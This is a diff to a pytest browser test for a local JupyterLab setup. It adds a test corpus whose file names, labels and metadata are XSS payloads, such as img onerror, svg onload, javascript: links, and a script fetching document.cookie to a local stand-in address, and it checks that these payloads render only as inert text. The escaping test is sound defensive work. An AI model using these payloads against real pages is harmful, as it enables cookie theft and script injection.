@@ -1,4 +1,4 @@
-"""``make lab``: JupyterLab on this machine alone, its token kept, a notebook run in a browser."""
+"""``make lab``: JupyterLab on this machine alone, its token kept, notebooks run in a browser."""
 
 import json
 import os
@@ -12,7 +12,12 @@ import urllib.error
 import urllib.request
 from pathlib import Path
 
+import nbformat
+import numpy as np
+import pandas as pd
 import pytest
+import soundfile
+from nbconvert import HTMLExporter
 
 ROOT = Path(__file__).resolve().parents[2]
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
@@ -26,6 +31,13 @@ SMALL = {
     "colour_maps": ["viridis", "magma"],
 }
 WAIT_MS = 240_000
+OWN = "20_own_recordings"
+#: Labels that would leave their place, each with what it shows as text.
+HOSTILE = [
+    '"><img src=x onerror=alert(1)>',
+    "``` <script>fetch('http://127.0.0.1:9/' + document.cookie)</script>",
+    "[a](javascript:alert(2)) ![b](http://127.0.0.1:9/b.png) $\\href{javascript:alert(3)}{c}$",
+]
 #: Nothing is asked of other hosts, and all cells are on the page, seen or not.
 SETTINGS = {
     "apputils-extension/notification": {"fetchNews": "false", "checkForUpdates": False},
@@ -59,15 +71,40 @@ def folder(tmp_path_factory):
     """A copy of one notebook, with small parameters."""
     folder = tmp_path_factory.mktemp("lab") / "notebooks"
     folder.mkdir()
-    notebook = json.loads((ROOT / "notebooks" / f"{NOTEBOOK}.ipynb").read_text(encoding="utf-8"))
+    copy_notebook(NOTEBOOK, folder, SMALL)
+    corpus = tmp_path_factory.mktemp("b") / "<img src=x onerror=alert(0)>"
+    few = {"networks": {"squeezenet1_1": ["logits"]}, "size_px": 64, "seeds": [0], "n_jobs": 1}
+    few |= {"codebook_sizes": [5], "n_assigns": [1], "complexities": [1e-2], "n_resamples": 20}
+    copy_notebook(OWN, folder, {**few, "chunk_s": 0.25, "corpus": str(write_hostile(corpus))})
+    return folder
+
+
+def copy_notebook(name, folder, parameters):
+    notebook = json.loads((ROOT / "notebooks" / f"{name}.ipynb").read_text(encoding="utf-8"))
     (cell,) = [c for c in notebook["cells"] if "parameters" in c["metadata"].get("tags", [])]
     source = "".join(cell["source"])
-    for name, value in SMALL.items():
-        source, n = re.subn(rf"^{name} = [^#\n]*", f"{name} = {value!r}", source, flags=re.M)
-        assert n == 1, name
+    for key, value in parameters.items():
+        line = f"{key} = {value!r}"
+        source, n = re.subn(rf"^{key} = [^#\n]*", lambda _, line=line: line, source, flags=re.M)
+        assert n == 1, key
     cell["source"] = source
-    (folder / f"{NOTEBOOK}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
-    return folder
+    (folder / f"{name}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
+
+
+def write_hostile(root):
+    """A corpus whose every text is hostile: names of files and folder, labels, groups, itself."""
+    root.mkdir()
+    rng, rows = np.random.default_rng(0), []
+    for i, part in enumerate(["train", "devel", "test"] * 6):
+        label = HOSTILE[i // 3 % 3]
+        file = f'{i} "><img src=x onerror=alert(4)>.wav'
+        soundfile.write(root / file, rng.normal(0, 0.1, 8000), 8000)
+        rows.append([file, label, part, f"{i} <svg onload=alert(5)>"])
+    columns = ["file", "label", "partition", "group"]
+    pd.DataFrame(rows, columns=columns).to_csv(root / "index.csv", index=False)
+    about = {"name": HOSTILE[0], "licence": HOSTILE[1]}
+    (root / "corpus.json").write_text(json.dumps(about))
+    return root
 
 
 @pytest.fixture(scope="module")
@@ -105,7 +142,7 @@ def lab(command, folder, tmp_path_factory):
         )
     address = f"http://127.0.0.1:{port}"
     try:
-        deadline = time.monotonic() + 120
+        deadline = time.monotonic() + 300
         while not answers(f"{address}/api/status?token={token}"):
             if server.poll() is not None or time.monotonic() > deadline:
                 pytest.fail(f"JupyterLab did not start:\n{log.read_text()}")
@@ -229,3 +266,54 @@ def test_a_notebook_runs_cell_by_cell_in_a_browser(lab, page):
     playing.get_by_text("no such file").wait_for()
     assert playing.locator(".jp-OutputArea-output[data-mime-type*='error']").count() == 0
     assert page.complaints == []
+
+
+def watch(page, allowed):
+    """Dialogs of a page, and its requests but for those that begin with an allowed address."""
+    events = []
+    page.on("dialog", lambda dialog: (events.append(dialog.message), dialog.dismiss()))
+    page.on(
+        "request",
+        lambda request: (
+            events.append(request.url)
+            if not request.url.startswith((*allowed, "data:", "blob:"))
+            or re.search(r"/x$|onerror|/b\.png", request.url)
+            else None
+        ),
+    )
+    return events
+
+
+@pytest.mark.slow
+def test_texts_of_a_corpus_run_nothing_in_jupyterlab_nor_on_its_page(lab, page, folder):
+    address, token, port = lab
+    page, path = page.context.browser.new_page(viewport={"width": 1400, "height": 1000}), folder
+    page.set_default_timeout(WAIT_MS)
+    events = watch(page, (address, f"ws://127.0.0.1:{port}"))
+    page.goto(f"{address}/lab/tree/{OWN}.ipynb?token={token}")
+    panel = page.locator(".jp-NotebookPanel:visible")
+    panel.wait_for()
+    page.locator(".jp-NotebookPanel-toolbar [data-status=idle]").first.wait_for()
+    page.locator(".lm-MenuBar-itemLabel", has_text=re.compile("^Run$")).click()
+    page.locator("[data-command='runmenu:run-all']").click()
+    path = folder / f"{OWN}.ipynb"
+    n_cells = len([c for c in nbformat.read(path, 4).cells if c.cell_type == "code"])
+    panel.locator(".jp-InputPrompt", has_text=f"[{n_cells}]:").wait_for()
+    assert panel.locator(".jp-OutputArea-output[data-mime-type*='error']").count() == 0
+    shown = panel.inner_text()
+    page.keyboard.press("Control+S")
+    page.wait_for_function("() => !document.title.startsWith('*')")
+    page.wait_for_timeout(1000)
+    assert [text for text in HOSTILE if text not in shown] == []
+    assert events == []
+    # The same outputs on the page of nbconvert, whose own scripts are on another host.
+    exporter = HTMLExporter(mathjax_url="", require_js_url="", mermaid_js_url="")
+    html = path.with_suffix(".html")
+    html.write_text(exporter.from_notebook_node(nbformat.read(path, 4))[0], encoding="utf-8")
+    assert HOSTILE[1] in nbformat.writes(nbformat.read(path, 4)) or "&lt;script" in html.read_text()
+    events = watch(page, (html.as_uri(),))
+    page.goto(html.as_uri(), wait_until="load")
+    page.wait_for_timeout(500)
+    assert [text for text in HOSTILE if text not in page.inner_text("body")] == []
+    assert events == []
+    page.close()
